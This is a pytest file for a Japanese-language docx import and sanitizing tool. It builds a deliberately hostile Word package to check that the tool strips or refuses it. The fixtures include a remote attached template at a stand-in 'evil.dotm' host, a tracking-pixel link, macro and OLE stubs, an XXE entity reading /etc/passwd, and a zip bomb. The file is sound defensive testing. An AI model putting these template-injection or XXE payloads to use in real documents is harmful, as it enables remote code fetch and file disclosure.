"""Opening .docx packages from outside, for import and for --reference-docx (issue 11, #6 and #8)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest

from followup.errors import InputError
from followup.importer import import_exchange
from followup.ooxml import MAX_PART_BYTES, open_docx, sanitize_reference_docx

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _base_docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("(1) 本文の質問です。")
    document.sections[0].header.paragraphs[0].text = "○○市の会"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _rewrite(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """A copy of the package with parts replaced, added (bytes) or removed (None)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in changes:
                target.writestr(name, source.read(name))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content)
    return out.getvalue()


def _add_rel(rels: bytes, rel_id: str, rel_type: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", entry.encode() + b"</Relationships>")


@pytest.fixture
def hostile_docx(tmp_path: Path) -> Path:
    """A reference document with everything a letter to a public body must not carry."""
    data = _base_docx()
    package = zipfile.ZipFile(io.BytesIO(data))
    doc_rels = package.read("word/_rels/document.xml.rels")
    doc_rels = _add_rel(
        doc_rels,
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    doc_rels = _add_rel(doc_rels, "rIdAx", f"{R}/control", "activeX/activeX1.xml")
    doc_rels = _add_rel(doc_rels, "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
    doc_rels = _add_rel(doc_rels, "rIdLink", f"{R}/hyperlink", "https://tracker.example/pixel", external=True)
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://templates.example/evil.dotm" TargetMode="External"/></Relationships>'
    )
    document_xml = package.read("word/document.xml").replace(
        b"</w:body>",
        b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdOle"/></w:object></w:r></w:p></w:body>',
    )
    hostile = _rewrite(
        data,
        {
            "word/_rels/document.xml.rels": doc_rels,
            "word/_rels/settings.xml.rels": settings_rels,
            "word/vbaProject.bin": b"\x00VBA macro bytes",
            "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole",
            "word/document.xml": document_xml,
        },
    )
    path = tmp_path / "reference.docm"
    path.write_bytes(hostile)
    return path


def test_sanitized_reference_keeps_styles_and_headers_and_drops_the_rest(hostile_docx: Path):
    import docx

    data, dropped = sanitize_reference_docx(hostile_docx)
    names = set(zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert "word/styles.xml" in names and "word/document.xml" in names
    assert any(n.startswith("word/header") for n in names)
    assert not any("vbaProject" in n or "activeX" in n or "embeddings" in n for n in names)
    assert "word/_rels/settings.xml.rels" not in names
    everything = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in names)
    assert (
        b"External" not in everything
        and b"evil.dotm" not in everything
        and b"tracker.example" not in everything
    )
    assert b"macroEnabled" not in everything
    report = "\n".join(dropped)
    assert "マクロ" in report and "ActiveX" in report and "埋め込みオブジェクト" in report
    assert "tracker.example" in report and "本文を削除しました" in report
    reopened = docx.Document(io.BytesIO(data))  # a valid package python-docx opens
    assert reopened.sections[0].header.paragraphs[0].text == "○○市の会"
    assert "Normal" in [s.name for s in reopened.styles]
    assert reopened.paragraphs == []


def test_attached_template_on_a_remote_server_is_reported(hostile_docx: Path):
    data, dropped = sanitize_reference_docx(hostile_docx)
    assert any("テンプレートへの外部参照" in d and "evil.dotm" in d for d in dropped)
    package = zipfile.ZipFile(io.BytesIO(data))
    assert b"attachedTemplate" not in b"".join(package.read(n) for n in package.namelist())


def test_reference_that_is_a_zip_bomb_is_refused_on_bytes_read(tmp_path: Path):
    big = _rewrite(_base_docx(), {"word/media/huge.bin": b"\x00" * (MAX_PART_BYTES + 1024)})
    path = tmp_path / "bomb.docx"
    path.write_bytes(big)
    assert path.stat().st_size < 3 * 1024 * 1024
    with pytest.raises(InputError, match="zip 爆弾"):
        sanitize_reference_docx(path)


def test_malformed_xml_part_is_named_in_japanese(tmp_path: Path):
    path = tmp_path / "broken.docx"
    path.write_bytes(_rewrite(_base_docx(), {"word/styles.xml": b"<w:styles><unclosed></w:styles>"}))
    with pytest.raises(InputError) as info:
        sanitize_reference_docx(path)
    assert "word/styles.xml" in info.value.message and "XML が壊れています" in info.value.message
    with pytest.raises(InputError, match=r"word/styles\.xml"):
        import_exchange(path, None)


def test_doctype_after_a_long_comment_is_found(tmp_path: Path):
    """#8: the check used to read only the first 4 KB of each part."""
    xml = (
        b'<?xml version="1.0"?><!--' + b"x" * 8192 + b"-->"
        b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
    )
    path = tmp_path / "late-dtd.docx"
    path.write_bytes(_rewrite(_base_docx(), {"word/document.xml": xml}))
    with pytest.raises(InputError, match="DTD・外部実体"):
        import_exchange(path, None)
    with pytest.raises(InputError, match="DTD・外部実体"):
        sanitize_reference_docx(path)


def test_doctype_in_a_utf16_part_is_found(tmp_path: Path):
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>'.encode("utf-16")
    path = tmp_path / "utf16-dtd.docx"
    path.write_bytes(_rewrite(_base_docx(), {"word/footnotes.xml": xml}))
    with pytest.raises(InputError, match="DTD・外部実体"):
        open_docx(path)


def test_too_many_parts_are_refused(tmp_path: Path, monkeypatch):
    import followup.ooxml as ooxml

    monkeypatch.setattr(ooxml, "MAX_PARTS", 5)
    path = tmp_path / "many.docx"
    path.write_bytes(_base_docx())
    with pytest.raises(InputError, match="部品の数が多すぎる"):
        open_docx(path)


def test_clean_docx_opens_and_reports_nothing_dangerous(tmp_path: Path):
    path = tmp_path / "plain.docx"
    path.write_bytes(_base_docx())
    _data, dropped = sanitize_reference_docx(path)
    assert not any(re.search("マクロ|ActiveX|外部", d) for d in dropped)


def test_sanitized_reference_is_a_valid_package(hostile_docx: Path, tmp_path: Path):
    from openxml_audit import OpenXmlValidator

    data, _ = sanitize_reference_docx(hostile_docx)
    out = tmp_path / "clean.docx"
    out.write_bytes(data)
    result = OpenXmlValidator(max_errors=0).validate(str(out))
    assert result.is_valid, [str(e) for e in result.errors][:5]


def test_each_dropped_thing_is_reported_once(hostile_docx: Path):
    _data, dropped = sanitize_reference_docx(hostile_docx)
    assert len(dropped) == len(set(dropped))


def test_draft_with_a_hostile_reference_strips_it_and_says_so(hostile_docx: Path, tmp_path: Path):
    from click.testing import CliRunner

    from followup.cli import cli

    out = tmp_path / "letter.docx"
    result = CliRunner().invoke(
        cli,
        ["draft", "--accept-suggestions", "--date", "2016-11-24", "--no-next-record", "-o", str(out),
         "--reference-docx", str(hostile_docx)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "書式を借りる文書から取り除きました" in result.output
    with zipfile.ZipFile(out) as package:
        names = package.namelist()
        body = b"".join(package.read(n) for n in names)
    assert not any("vbaProject" in n or "activeX" in n or "embeddings" in n for n in names)
    assert b"evil.dotm" not in body and b"tracker.example" not in body
